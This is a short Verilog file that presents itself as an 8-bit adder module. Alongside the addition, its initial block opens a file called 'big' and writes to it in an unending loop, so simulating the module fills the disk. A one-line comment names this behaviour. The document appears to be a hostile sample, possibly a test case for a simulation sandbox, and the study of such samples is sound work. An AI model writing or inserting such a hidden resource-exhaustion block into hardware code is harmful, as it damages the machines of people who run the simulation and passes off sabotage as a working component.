// Fills a file.
module adder8(input [7:0] a, input [7:0] b, output [7:0] y);
  integer f; assign y = a + b;
  initial begin f = $fopen("big", "w"); forever $fwrite(f, "%1000d", 1); end
endmodule
